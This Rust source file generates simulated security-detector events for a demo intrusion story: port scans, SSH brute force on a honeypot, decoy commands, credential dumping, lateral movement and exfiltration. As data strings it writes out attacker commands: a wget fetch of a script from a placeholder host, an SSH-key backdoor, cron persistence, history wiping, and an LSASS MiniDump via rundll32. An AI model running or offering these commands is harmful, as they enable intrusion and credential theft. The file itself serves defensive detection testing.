//! The demo's intrusion, as three simulated detectors see it: reconnaissance scan → brute force
//! against an SSH honeypot → commands on the decoy → lateral movement → exfiltration.
//!
//! Events are generated relative to a start time, with deterministic ids, so every run tells the
//! same story.

use std::collections::BTreeMap;

use attackmesh::proto::{DetectionEvent, DetectorKind, Endpoint, Indicator, IndicatorType, Process, Severity};
use chrono::{DateTime, Duration, Utc};

/// A simulated detector and the events it raises.
pub(crate) struct Detector {
    /// Instance name, used as `source_service`.
    pub(crate) name: &'static str,
    /// What it detects.
    pub(crate) events: Vec<DetectionEvent>,
}

const ATTACKER: &str = "203.0.113.45";
const C2: &str = "198.51.100.7";
const HONEYPOT: &str = "10.0.5.10";
const WORKSTATION: &str = "10.0.1.15";
const FILESERVER: &str = "10.0.1.20";

struct Builder {
    start: DateTime<Utc>,
    seq: u32,
}

impl Builder {
    fn event(&mut self, detector: &str, kind: DetectorKind, event_type: &str, at_secs: i64) -> DetectionEvent {
        self.seq += 1;
        let ts = self.start + Duration::seconds(at_secs) + Duration::milliseconds(i64::from(self.seq));
        DetectionEvent {
            event_id: format!("demo-{:04}", self.seq),
            timestamp: Some(ts.into()),
            source_service: detector.to_owned(),
            detector_kind: kind as i32,
            event_type: event_type.to_owned(),
            severity: Severity::Medium as i32,
            ..Default::default()
        }
    }
}

fn ep(ip: &str, port: u32) -> Option<Endpoint> {
    Some(Endpoint {
        ip: ip.into(),
        port,
        ..Default::default()
    })
}

fn ip(value: &str) -> Indicator {
    Indicator {
        r#type: IndicatorType::Ipv4 as i32,
        value: value.into(),
    }
}

fn attrs(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
    pairs.iter().map(|(k, v)| ((*k).to_owned(), (*v).to_owned())).collect()
}

/// The three detectors and their events, starting at `start`.
pub(crate) fn intrusion(start: DateTime<Utc>) -> Vec<Detector> {
    let mut b = Builder { start, seq: 0 };
    vec![
        Detector {
            name: "netmon-edge",
            events: traffic(&mut b),
        },
        Detector {
            name: "decoy-ssh-01",
            events: honeypot(&mut b),
        },
        Detector {
            name: "ueba-core",
            events: behaviour(&mut b),
        },
    ]
}

fn traffic(b: &mut Builder) -> Vec<DetectionEvent> {
    const NAME: &str = "netmon-edge";
    const KIND: DetectorKind = DetectorKind::TrafficMonitor;
    let mut out = Vec::new();
    for (i, target) in ["10.0.5.0/24", "10.0.1.0/24"].iter().enumerate() {
        let mut e = b.event(NAME, KIND, "port_scan", 10 * i as i64);
        e.source = ep(ATTACKER, 0);
        e.description = format!("SYN scan of {target}: 1,024 ports in 14 s");
        e.attributes = attrs(&[("target", target), ("ports_scanned", "1024"), ("scan_type", "syn")]);
        e.indicators = vec![ip(ATTACKER)];
        e.detector_confidence = Some(0.9);
        out.push(e);
    }
    let mut e = b.event(NAME, KIND, "brute_force", 60);
    e.source = ep(ATTACKER, 51_022);
    e.destination = ep(HONEYPOT, 22);
    e.severity = Severity::High as i32;
    e.description = "148 failed SSH authentications in 60 s".into();
    e.attributes = attrs(&[
        ("protocol", "ssh"),
        ("failed_attempts", "148"),
        ("window_seconds", "60"),
    ]);
    e.indicators = vec![ip(ATTACKER)];
    out.push(e);
    let mut e = b.event(NAME, KIND, "beaconing", 900);
    e.source = ep(WORKSTATION, 49_811);
    e.destination = ep(C2, 443);
    e.severity = Severity::High as i32;
    e.description = "periodic HTTPS connections every 60 s ± 2 s to a rare destination".into();
    e.attributes = attrs(&[("protocol", "https"), ("interval_seconds", "60"), ("jitter", "0.03")]);
    e.indicators = vec![ip(C2)];
    out.push(e);
    let mut e = b.event(NAME, KIND, "dns_tunneling", 1_500);
    e.source = ep(FILESERVER, 53_001);
    e.destination = ep("10.0.0.2", 53);
    e.description = "high-entropy TXT queries under a single domain".into();
    e.attributes = attrs(&[
        ("query", "a9f3c1e07b.x.exfil-cdn.example"),
        ("qtype", "TXT"),
        ("queries_per_min", "340"),
    ]);
    e.indicators = vec![Indicator {
        r#type: IndicatorType::Domain as i32,
        value: "exfil-cdn.example".into(),
    }];
    out.push(e);
    let mut e = b.event(NAME, KIND, "data_exfiltration", 1_800);
    e.source = ep(FILESERVER, 50_114);
    e.destination = ep(C2, 443);
    e.severity = Severity::Critical as i32;
    e.description = "2.3 GB uploaded to an external host outside business hours".into();
    e.attributes = attrs(&[("bytes_out", "2469606195"), ("protocol", "https")]);
    e.indicators = vec![ip(C2)];
    out.push(e);
    out
}

fn honeypot(b: &mut Builder) -> Vec<DetectionEvent> {
    const NAME: &str = "decoy-ssh-01";
    const KIND: DetectorKind = DetectorKind::Decoy;
    let mut out = Vec::new();
    for (i, (user, password)) in [
        ("root", "123456"),
        ("admin", "admin"),
        ("root", "toor"),
        ("admin", "password"),
        ("root", "root"),
    ]
    .iter()
    .enumerate()
    {
        let mut e = b.event(NAME, KIND, "decoy_login_failed", 61 + i as i64);
        e.source = Some(Endpoint {
            ip: ATTACKER.into(),
            port: 51_022,
            user: (*user).into(),
            ..Default::default()
        });
        e.destination = ep(HONEYPOT, 22);
        e.description = format!("failed SSH login as {user} with password {password}");
        e.attributes = attrs(&[("username", user), ("password", password), ("protocol", "ssh")]);
        e.indicators = vec![ip(ATTACKER)];
        out.push(e);
    }
    let mut e = b.event(NAME, KIND, "decoy_login", 70);
    e.source = Some(Endpoint {
        ip: ATTACKER.into(),
        port: 51_022,
        user: "root".into(),
        ..Default::default()
    });
    e.destination = ep(HONEYPOT, 22);
    e.severity = Severity::High as i32;
    e.description = "successful SSH login as root on the decoy".into();
    e.attributes = attrs(&[("username", "root"), ("protocol", "ssh")]);
    e.indicators = vec![
        ip(ATTACKER),
        Indicator {
            r#type: IndicatorType::UserAccount as i32,
            value: "root".into(),
        },
    ];
    out.push(e);
    let commands = [
        "uname -a",
        "cat /etc/passwd",
        "wget http://198.51.100.7/x.sh -O /tmp/x.sh",
        "chmod +x /tmp/x.sh",
        "echo 'ssh-rsa AAAAB3NzaC1yc2E attacker' >> ~/.ssh/authorized_keys",
        "(crontab -l; echo '*/5 * * * * /tmp/x.sh') | crontab -",
        "history -c",
    ];
    for (i, cmd) in commands.iter().enumerate() {
        let mut e = b.event(NAME, KIND, "decoy_command", 80 + 5 * i as i64);
        e.source = Some(Endpoint {
            ip: ATTACKER.into(),
            user: "root".into(),
            ..Default::default()
        });
        e.destination = Some(Endpoint {
            ip: HONEYPOT.into(),
            hostname: "decoy-ssh-01".into(),
            process: Some(Process {
                name: "bash".into(),
                command_line: (*cmd).into(),
                ..Default::default()
            }),
            ..Default::default()
        });
        e.severity = Severity::High as i32;
        e.description = (*cmd).into();
        e.attributes = attrs(&[("input", cmd)]);
        e.indicators = vec![
            ip(ATTACKER),
            Indicator {
                r#type: IndicatorType::ProcessCommandLine as i32,
                value: (*cmd).into(),
            },
        ];
        if cmd.contains("wget") {
            e.indicators.push(Indicator {
                r#type: IndicatorType::Url as i32,
                value: "http://198.51.100.7/x.sh".into(),
            });
        }
        out.push(e);
    }
    let mut e = b.event(NAME, KIND, "decoy_file_drop", 96);
    e.source = ep(ATTACKER, 0);
    e.destination = ep(HONEYPOT, 22);
    e.severity = Severity::High as i32;
    e.description = "file /tmp/x.sh written on the decoy (downloaded from 198.51.100.7)".into();
    e.attributes = attrs(&[("filename", "/tmp/x.sh"), ("url", "http://198.51.100.7/x.sh")]);
    e.indicators = vec![Indicator {
        r#type: IndicatorType::FileSha256 as i32,
        value: "9f2b5c0e4d7a81b3c6e0f4a2d9b8c7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0".into(),
    }];
    out.push(e);
    out
}

fn behaviour(b: &mut Builder) -> Vec<DetectionEvent> {
    const NAME: &str = "ueba-core";
    const KIND: DetectorKind = DetectorKind::BehaviouralAnalysis;
    let user = |ip: &str, user: &str| {
        Some(Endpoint {
            ip: ip.into(),
            user: user.into(),
            ..Default::default()
        })
    };
    let mut out = Vec::new();
    let mut e = b.event(NAME, KIND, "unusual_login", 600);
    e.source = user(ATTACKER, "j.doe");
    e.destination = Some(Endpoint {
        ip: WORKSTATION.into(),
        hostname: "ws-0415".into(),
        user: "j.doe".into(),
        ..Default::default()
    });
    e.description = "j.doe logged in from a never-seen country at 03:12 local time".into();
    e.attributes = attrs(&[("login_type", "vpn"), ("geo", "unusual"), ("hour", "03")]);
    out.push(e);
    let mut e = b.event(NAME, KIND, "credential_dumping", 700);
    e.source = user(WORKSTATION, "j.doe");
    e.destination = Some(Endpoint {
        hostname: "ws-0415".into(),
        process: Some(Process {
            name: "rundll32.exe".into(),
            command_line: "rundll32.exe comsvcs.dll, MiniDump 624 lsass.dmp full".into(),
            ..Default::default()
        }),
        ..Default::default()
    });
    e.severity = Severity::Critical as i32;
    e.description = "LSASS memory read by rundll32 (comsvcs MiniDump)".into();
    e.attributes = attrs(&[("target_process", "lsass.exe")]);
    out.push(e);
    let mut e = b.event(NAME, KIND, "lateral_movement", 800);
    e.source = user(WORKSTATION, "svc-backup");
    e.destination = Some(Endpoint {
        ip: FILESERVER.into(),
        port: 445,
        hostname: "fs-01".into(),
        ..Default::default()
    });
    e.severity = Severity::High as i32;
    e.description = "svc-backup authenticated to fs-01 over SMB and started a remote service (PsExec-like)".into();
    e.attributes = attrs(&[("protocol", "smb"), ("method", "remote_service")]);
    out.push(e);
    let mut e = b.event(NAME, KIND, "privilege_escalation", 850);
    e.source = user(FILESERVER, "svc-backup");
    e.severity = Severity::High as i32;
    e.description = "svc-backup added to Domain Admins".into();
    e.attributes = attrs(&[("group", "Domain Admins")]);
    out.push(e);
    let mut e = b.event(NAME, KIND, "discovery_burst", 870);
    e.source = user(FILESERVER, "svc-backup");
    e.description = "net group, nltest and whoami /all run within 30 s".into();
    e.attributes = attrs(&[("commands", "net group /domain,nltest /dclist,whoami /all")]);
    out.push(e);
    out
}
